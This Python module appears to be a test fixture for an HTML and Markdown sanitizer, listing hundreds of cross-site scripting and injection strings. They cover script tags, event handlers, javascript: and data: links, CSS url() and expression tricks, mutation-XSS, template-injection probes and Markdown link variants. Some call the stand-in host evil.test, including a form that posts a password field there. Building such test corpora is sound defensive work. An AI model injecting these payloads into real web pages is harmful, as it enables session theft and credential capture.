"""Markup that wants to act, of the known kinds, written for these tests. `run()` is what it would call."""

# ruff: noqa: E501 - a payload stays on one line
from __future__ import annotations

import base64

_B64 = base64.b64encode(b"<script>run()</script>").decode()
HANDLERS = ["onload", "onerror", "onclick", "ondblclick", "onmouseover", "onmouseenter", "onfocus", "onfocusin", "onblur", "oninput", "onchange", "onsubmit", "onreset", "onkeydown", "onkeypress", "onpaste", "oncopy", "oncut", "ondrag", "ondrop", "onscroll", "onwheel", "ontoggle", "onbeforetoggle", "onanimationstart", "onanimationend", "ontransitionend", "onpointerover", "onpointerrawupdate", "ontouchstart", "onpageshow", "onhashchange", "onmessage", "onpopstate", "onbegin", "onend", "onrepeat", "onloadstart", "oncanplay", "onplay", "onended", "onshow", "onstart", "onfinish", "onbounce", "onselect", "oninvalid", "onsearch", "onauxclick", "oncontextmenu", "onafterprint", "onbeforeprint", "onbeforeunload", "onunload", "onreadystatechange", "onpropertychange", "onactivate", "onscrollend", "oncontentvisibilityautostatechange"]  # fmt: skip

SCRIPTS = """
<script>run()</script>
<SCRIPT>run()</SCRIPT>
<script >run()</script >
<script/x>run()</script>
<script\t>run()</script\n>
<script src=//evil.test/x.js></script>
<script src=data:text/javascript,run()></script>
<script type=module>run()</script>
<scr<script>ipt>run()</scr</script>ipt>
<scr\x00ipt>run()</scr\x00ipt>
<<script>run();//<</script>
<script>run()
<script>/*<script>*/run()</script>
<script><!--\nrun()//--></script>
</script><script>run()</script>
</title><script>run()</script>
</textarea><script>run()</script>
</style><script>run()</script>
</noscript><script>run()</script>
--><script>run()</script>
]]><script>run()</script>
<!--><script>run()</script>-->
<!--<script>--><script>run()</script>
<![CDATA[<script>run()</script>]]>
<?xml version="1.0"?><script>run()</script>
<?<script>run()</script>?>
<!doctype x [<!entity e "run()">]><script>&e;</script>
<noscript><p title="</noscript><img src=x onerror=run()>">
<template><script>run()</script></template>
<template shadowrootmode=open><script>run()</script></template>
<xmp><p title="</xmp><img src=x onerror=run()>"></xmp>
<plaintext><script>run()</script>
<textarea><script>run()</script>
<title><img src=x onerror=run()></title>
""".strip().split("\n")

ELEMENTS = '''
<img src=x onerror=run()>
<img src=x onerror=run()
<<img src=x onerror=run()>
<img/src/onerror=run()>
<img src=x:x onerror=run()//
<img """><script>run()</script>">
<img src=`x` onerror=run()>
<img src=x onerror=&#114;&#117;&#110;()>
<img src=x oNeRrOr=run()>
<img src=x\x0conerror=run()>
<img src=x\xa0onerror=run()>
<img src="x" onerror="run()" alt="a>b">
<img srcset="x 1x" onerror=run()>
<img src=javascript:run()>
<img lowsrc=javascript:run() dynsrc=javascript:run()>
<image src=x onerror=run()>
<svg onload=run()>
<svg/onload=run()>
<svg><script>run()</script></svg>
<svg><script href=data:,run() /></svg>
<svg><script>&#114;un()</script></svg>
<svg><style><img src=x onerror=run()></style></svg>
<svg><a xlink:href=javascript:run()><text y=20>x</text></a></svg>
<svg><animate onbegin=run() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:run() /><a id=x><text>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:run() /><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>run()</script></svg>#x"/></svg>
<svg><foreignObject><iframe src=javascript:run()></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=run()></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=run()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=run()></annotation-xml></math>
<math href=javascript:run()>x</math>
<math><maction actiontype=statusline xlink:href=javascript:run()>x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>
<table><td background=javascript:run()>
<table background=javascript:run()><tr><td>x</table>
<iframe src=javascript:run()></iframe>
<iframe srcdoc="<script>run()</script>"></iframe>
<iframe onload=run()></iframe>
<iframe src=//evil.test></iframe>
<frameset onload=run()><frame src=javascript:run()></frameset>
<object data=javascript:run()></object>
<object data="data:text/html;base64,B64"></object>
<object type=text/x-scriptlet data=//evil.test></object>
<embed src=javascript:run()>
<embed src="data:image/svg+xml;base64,B64" type=image/svg+xml>
<applet code=x archive=//evil.test/x.jar></applet>
<audio src onerror=run()></audio>
<video><source onerror=run()></video>
<video poster=javascript:run() src=//evil.test></video>
<details open ontoggle=run()>x</details>
<marquee onstart=run()>x</marquee>
<body onload=run()>
<body background=javascript:run()>
<html onmouseover=run()>
<input autofocus onfocus=run()>
<input type=image src=x onerror=run()>
<select autofocus onfocus=run()></select>
<button formaction=javascript:run()>x</button>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=run()>x</div>
<form action=javascript:run()><input type=submit></form>
<form action=//evil.test method=post><input name=password></form>
<form id=x></form><button form=x formaction=javascript:run()>x</button>
<isindex action=javascript:run() type=submit>
<keygen autofocus onfocus=run()>
<bgsound src=javascript:run()>
<layer src=//evil.test/x.js></layer>
<link rel=stylesheet href=javascript:run()>
<link rel=stylesheet href=//evil.test/x.css>
<link rel=import href=//evil.test>
<link rel=prefetch href=//evil.test>
<meta http-equiv=refresh content="0;url=javascript:run()">
<meta http-equiv=refresh content="0;url=data:text/html;base64,B64">
<meta http-equiv=Set-Cookie content="helpdesk_session=x">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href=//evil.test/>
<base href=javascript:/a/><a href=run()>x</a>
<custom-x onfocus=run() tabindex=1 autofocus>x</custom-x>
<x onclick=run()>x
<p hx-get=//evil.test hx-trigger=load>x</p>
<p data-hx-get=/sign-out/ hx-on:click=run() hx-on--load=run()>x</p>
<a href=x hx-boost=true hx-headers='js:{x:run()}'>x</a>
<div id=csrfToken><a id=defaultView name=cookie>x</a></div>
<img name=cookies><form name=body><input name=getElementById></form>
<p class="btn btn-danger modal" id=main>x</p>
<a href="x" target=_top download=x.exe ping=//evil.test>x</a>
<portal src=//evil.test></portal><fencedframe></fencedframe>
<dialog open onclose=run()>x</dialog>
<slot onslotchange=run()>x</slot>
'''.strip().split("\n")

LINKS = """
javascript:run()
JaVaScRiPt:run()
java\tscript:run()
java{NL}script:run()
java{CR}script:run()
\x01javascript:run()
 javascript:run()
\xa0javascript:run()
javascript\x00:run()
javascript&colon;run()
&#106;avascript:run()
&#x6A;avascript:run()
&#0000106avascript:run()
jav&#x09;ascript:run()
jav&NewLine;ascript&colon;run()
javascript://%0arun()
javascript:/*--></title></style></textarea></script><svg/onload=run()>*/
data:text/html,<script>run()</script>
data:text/html;base64,B64
data:image/svg+xml;base64,B64
DATA:TEXT/HTML,run()
data:,run()
data:application/xhtml+xml,<script>run()</script>
vbscript:run()
livescript:run()
mocha:run()
view-source:javascript:run()
blob:https://evil.test/x
filesystem:https://evil.test/x
feed:javascript:run()
jar:https://evil.test/x!/y
ms-its:x
file:///etc/passwd
about:blank
x-javascript:run()
intent://x#Intent;end
https://a"onmouseover=run()//
https://a'onmouseover='run()
https://a/<script>run()</script>
http://[::1]"onclick=run()
https://evil.test\\@good.test/
""".strip("\n").split("\n")
LINKS = [each.replace("{NL}", "\n").replace("{CR}", "\r") for each in LINKS]

STYLES = """
<style>@import//evil.test;</style>
<style>body{background:url(//evil.test)}</style>
<style>*{x:expression(run())}</style>
<p style="position:fixed;inset:0;z-index:9">x</p>
<p style="background:url(//evil.test/?x)">x</p>
<p style="background:\\75rl(//evil.test)">x</p>
<p style="background:u/**/rl(//evil.test)">x</p>
<p style="background-image:image-set('//evil.test' 1x)">x</p>
<p style="width:expression(run())">x</p>
<p style="behavior:url(#x)">x</p>
<p style="-moz-binding:url(//evil.test/x)">x</p>
<p style="list-style:url(javascript:run())">x</p>
<p style="content:url(//evil.test)">x</p>
<p style="animation-name:x" onanimationstart=run()>x</p>
<p style="color:red;}</style><script>run()</script>">x</p>
<p style='font-family:"x";background:url(//evil.test)'>x</p>
<p style="display:none;visibility:hidden;opacity:0;transform:scale(99)">x</p>
""".strip().split("\n")

LINK_TAGS = [f'<a href="{each}">x</a>' for each in LINKS if '"' not in each] + [
    f"<a href={each}>x</a>" for each in LINKS if " " not in each and "<" not in each
]
HANDLED = [f"<p {name}=run() tabindex=1>x</p>" for name in HANDLERS]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    '{% now "Y" %}',
    "{% load static %}",
    "{{ settings.SECRET_KEY }}",
    "#{7*7}",
]
TRICKS = [
    "\"><script>run()</script>", "'><script>run()</script>", "\" onfocus=run() autofocus=\"", "' onfocus=run() autofocus='",
    "` onfocus=run() autofocus=`", "\u2028<script>run()</script>", "\ufeff<script>run()</script>", "＜script＞run()＜/script＞",
    "+ADw-script+AD4-run()+ADw-/script+AD4-", "%3Cscript%3Erun()%3C/script%3E", "&lt;script&gt;run()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;run()", "\\u003cscript\\u003erun()\\u003c/script\\u003e", "\\x3cscript\\x3erun()",
    "-alert(1)-", "';run();//", "</script><!--<script>run()", "<!--<script>", "]]></script>", "{\"a\":\"</script>\"}",
    "<img src=x onerror=run()>.png", "a<b onmouseover=run()>c", "x\u202egnp.exe", "\x1b[31mred", "a\x08b",
]  # fmt: skip
FIXED = [each.replace("B64", _B64) for each in [*SCRIPTS, *ELEMENTS, *STYLES, *LINK_TAGS, *TRICKS, *TEMPLATES]]
PAYLOADS = list(dict.fromkeys([*FIXED, *HANDLED]))

_MARKDOWN_TARGETS = [each.replace("B64", _B64) for each in LINKS if " " not in each and "\n" not in each]
MARKDOWN = [
    *(f"[x]({each})" for each in _MARKDOWN_TARGETS),
    *(f"[x](<{each}>)" for each in _MARKDOWN_TARGETS if "<" not in each),
    *(f"![x]({each})" for each in _MARKDOWN_TARGETS[:12]),
    *(f"<{each}>" for each in _MARKDOWN_TARGETS[:12]),
    *(f"[x][r]\n\n[r]: {each}" for each in _MARKDOWN_TARGETS[:12]),
    '![x](x"onerror="run())', '![x](media:1 "a\\" onerror=run()")', '[x](https://a "\' onclick=run()")', "[x]( javascript:run())",
    "[x](answer:1\"onclick=run())", "[x](//evil.test)", "[x](/\\evil.test)", "[x](\\javascript:run())", "`<script>run()</script>`",
    "```html\n<script>run()</script>\n```", "    <script>run()</script>", "::: info <script>run()</script>\nx\n:::",
    "::: <script>\nx\n:::", "::: video youtube \"><script>run()</script> Title\nx\n:::",
    "::: video youtube dQw4w9WgXcQ <script>run()</script>\n<script>run()</script>\n:::", "[[<script>run()</script>]]",
    "# <script>run()</script>", "## x {onclick=run()}", "## main", "## csrfToken", "| <script> |\n|--|\n| <img src=x onerror=run()> |",
    "1. <script>run()</script>\n2. x", "> <script>run()</script>", "### Part: <script>run()</script>", "~~<script>~~",
    "slot-0000000000000000-0-", "*<script>*", "<!-- -->", "&lt;script&gt;run()&lt;/script&gt;", "<a href=javascript:run()>x</a>",
]  # fmt: skip
